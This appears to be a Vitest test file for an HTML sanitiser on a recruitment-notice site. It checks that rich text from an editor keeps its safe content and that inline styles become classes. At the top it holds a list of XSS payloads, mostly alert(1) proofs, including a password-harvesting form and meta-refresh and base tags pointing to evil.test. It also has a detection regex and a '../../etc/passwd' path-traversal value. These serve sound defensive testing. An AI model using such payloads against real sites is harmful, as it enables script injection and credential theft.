import { readFile } from "node:fs/promises";
import { richTextClasses, withStyles } from "@bladekit/sdk/rules";
import { describe, expect, it } from "vitest";
import { builtSites } from "../../http/sites.ts";
import { picturesIn, sanitiseHtml } from "./html.ts";

const attacks: Readonly<Record<string, string>> = {
  "event handler": `<img src=x onerror=alert(1)>`,
  "svg load": `<svg onload=alert(1)><p>x</p></svg>`,
  script: `<script>alert(1)</script>`,
  "split script": `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  "javascript link": `<a href="javascript:alert(1)">x</a>`,
  "javascript link, encoded": `<a href="&#106;avascript:alert(1)">x</a>`,
  "javascript link, with a tab": `<a href="java\tscript:alert(1)">x</a>`,
  "data link": `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  "vbscript link": `<a href="vbscript:msgbox(1)">x</a>`,
  "escaped past a filter": `\u003cimg src=x onerror=alert(1)\u003e`,
  "style import": `<style>@import "//evil.test/x.css"</style>`,
  "style url": `<p style="background:url(javascript:alert(1))">x</p>`,
  "style expression": `<p style="width:expression(alert(1))">x</p>`,
  "frame with a document": `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  object: `<object data="x.swf"></object><embed src="x.swf">`,
  form: `<form action="https://evil.test"><input name=password></form>`,
  "mutation through mathml": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  "mutation through noscript": `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=//evil.test">`,
  base: `<base href="//evil.test/">`,
  "svg picture": `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
  "protocol-relative picture": `<img src="//evil.test/x.png">`,
  "card of a script": `<figure data-post="1&quot; onload=alert(1)" onload=alert(1)>x</figure>`,
  "card of another site": `<figure data-file="//evil.test/x" data-post="javascript:alert(1)"><script>alert(1)</script></figure>`,
  "attribute break-out": `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
};

// Patterns that a browser would act on, looked for inside tags only: as text, or in a quoted title, all of it is harmless.
const active =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|meta|base|noscript)\b|<[^>]*(?:\son\w+\s*=|(?:java|vb)script:|data:|"\/\/|url\(|expression)/i;

describe("sanitiseHtml", () => {
  for (const [name, html] of Object.entries(attacks)) {
    it(`leaves nothing to run or load: ${name}`, () => {
      const clean = sanitiseHtml(html);
      expect(clean.replace(/ (?:title|alt)="[^"]*"/g, "")).not.toMatch(active);
      expect(sanitiseHtml(clean)).toBe(clean);
    });
  }

  it("keeps what a notice is made of", () => {
    const notice =
      '<h2 class="rt-center">公告</h2><p>要求 <strong>本科</strong> &lt;35 岁</p><table><tbody><tr><td colspan="2">内科</td></tr></tbody></table>' +
      '<a href="https://example.org/a?b=1&amp;c=2">附件</a><img src="/api/picture/a.png" alt="图" /><a href="/recruit/post">岗位</a>';
    expect(sanitiseHtml(notice)).toBe(notice);
  });

  it("keeps the card of a file or of a post, under a name that can be one, and nothing else of it", () => {
    const cards =
      '<figure data-post="17">护士</figure><figure data-file="upload/20261120/7f3c1c9e.pdf">岗位表</figure>';
    expect(sanitiseHtml(cards)).toBe(cards);
    for (const attributes of [
      ...['data-post=""', 'data-post="x"', 'data-post="1 2"', 'data-post="12345678901234567890"', 'data-post="１"'],
      ...['data-file="../../etc/passwd"', 'data-file="upload/20261120/a.pdf?x"', 'data-file="https://evil.test/a.pdf"'],
      ...['data-other="1"', 'id="root"', "hidden", 'style="position:fixed"'],
    ])
      expect(sanitiseHtml(`<figure ${attributes}>x</figure>`)).toBe("<figure>x</figure>");
    expect(sanitiseHtml('<figure data-post="17" data-file="upload/20261120/a.pdf">x</figure>')).toMatch(
      /^<figure data-(?:file|post)="[^"]*">x<\/figure>$/,
    );
    expect(sanitiseHtml('<p data-post="17">x</p><a data-file="upload/20261120/a.pdf">x</a>')).toBe("<p>x</p><a>x</a>");
  });

  it("keeps the classes of cards and links, and no address without its protocol", () => {
    const classes = '<figure data-post="17" class="rt-center">x</figure><a href="/x" class="rt-red">x</a>';
    expect(sanitiseHtml(classes)).toBe(classes);
    expect(sanitiseHtml('<a href="//evil.test/" title="t">x</a>')).toBe('<a title="t">x</a>');
  });

  it("shows pictures that were taken from other sites at their new place", () => {
    const taken = new Map([["https://example.org/a.png", "/own/a.png"]]);
    const html =
      '<img src="https://example.org/a.png" /><img src="https://example.org/b.png" alt="b" /><img alt="c" />';
    expect(sanitiseHtml(html, taken)).toBe(
      '<img src="/own/a.png" /><a href="https://example.org/b.png">b</a><img alt="c" />',
    );
  });

  it("finds the pictures of a text: those of other sites, and our own files by their names", () => {
    const own = "/api/blade-resource/oss/endpoint/file?name=upload%2Fa.png&sign=x";
    const html = ["https://example.org/a.png", "//example.org/b.png", own, `https://example.org${own}`, "/c.png", ""]
      .map((src) => `<p><img src="${src.replaceAll("&", "&amp;")}"></p>`)
      .join("");
    const { foreign, files } = picturesIn(`${html}<img src="/api/blade-resource/oss/endpoint/file?sign=x">`);
    expect([...foreign]).toEqual([
      ...["https://example.org/a.png", "//example.org/b.png", `https://example.org${own}`],
    ]);
    expect([...files]).toEqual([[own, "upload/a.png"]]);
  });

  it("gives a new window no hold on the page that opened it", () => {
    expect(sanitiseHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitiseHtml('<a href="https://example.org" target="top" rel="opener">x</a>')).toBe(
      '<a href="https://example.org">x</a>',
    );
  });
});

describe("the styles of an editor", () => {
  const css = () => readFile(new URL("../../../../recruit/src/ui/rich-text.css", import.meta.url), "utf8");
  const policyOf = (name: string) => builtSites.find(({ folder }) => folder.includes(name))?.styleSource;

  it.each([
    ["text-align: center", "rt-center"],
    ["TEXT-ALIGN:Right !important", "rt-right"],
    ["text-indent: 2em", "rt-indent"],
    ["color: rgb(255, 0, 0)", "rt-red"],
    ["color:#00f", "rt-blue"],
    ["color: #999999; font-size: 12px", "rt-grey rt-small"],
    ["font-size: 18pt", "rt-huge"],
    ["background-color: yellow; font-weight: 700", "rt-mark rt-bold"],
  ])("become classes: %s", (style, names) => {
    expect(sanitiseHtml(`<p style="${style}">x</p>`)).toBe(`<p class="${names}">x</p>`);
  });

  it.each(["color: black", "color: expression(1)", "position: fixed", "font-size: 16px", "text-align: start", ""])(
    "leave nothing where they say nothing, or what no text needs: %s",
    (style) => {
      expect(sanitiseHtml(`<p style="${style}" class="btn rt-none">x</p>`)).toBe("<p>x</p>");
    },
  );

  it("stay what they are from editor to sanitiser to the site, whose policy allows no style", async () => {
    const rules = await css();
    expect(policyOf("recruit")).toBe("'self'");
    for (const [name, style] of Object.entries(richTextClasses)) {
      const stored = sanitiseHtml(`<p style="${style}">x</p>`);
      expect(stored).toBe(`<p class="${name}">x</p>`);
      expect(sanitiseHtml(stored)).toBe(stored);
      // The console's editor is given these and writes them back.
      expect(withStyles(stored)).toBe(`<p style="${style}">x</p>`);
      expect(rules).toContain(`.${name} {`);
    }
  });

  it("never leave a picture that the policy blocks: it becomes a link", () => {
    expect(sanitiseHtml('<p><img src="https://example.org/a.png" alt="路线图"></p>')).toBe(
      '<p><a href="https://example.org/a.png">路线图</a></p>',
    );
    expect(sanitiseHtml('<img src="//example.org/a.png">')).toBe('<a href="https://example.org/a.png">图片</a>');
  });
});
